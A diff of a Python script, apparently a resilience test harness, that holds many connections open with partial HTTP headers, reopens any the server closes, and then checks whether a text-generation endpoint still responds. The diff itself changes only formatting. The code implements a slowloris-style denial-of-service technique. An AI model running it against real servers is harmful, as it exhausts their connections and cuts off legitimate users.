@@ -1,5 +1,6 @@
 #!/usr/bin/env python3
 """n connections hold half a head each; those that the server ends are made anew, until the time is over."""
+
 import contextlib
 import random
 import sys
@@ -17,7 +18,7 @@ def hold(server, n, seconds):
     while len(held) < n or time.monotonic() < end:
         if len(held) < n:
             held.append(attack.connect(server))
-            held[-1].sendall(HEAD[:rng.randrange(1, len(HEAD) - 1)])
+            held[-1].sendall(HEAD[: rng.randrange(1, len(HEAD) - 1)])
             held[-1].setblocking(False)
             made += 1
             continue
@@ -30,7 +31,7 @@ def hold(server, n, seconds):
                 if ended:
                     held[i].close()
                     held[i] = attack.connect(server)
-                    held[i].sendall(HEAD[:rng.randrange(1, len(HEAD) - 1)])
+                    held[i].sendall(HEAD[: rng.randrange(1, len(HEAD) - 1)])
                     held[i].setblocking(False)
                     made += 1
         status, _, _ = server.request("POST", attack.TEXT, {"prompt": "a", "max_tokens": 1}, timeout=10)
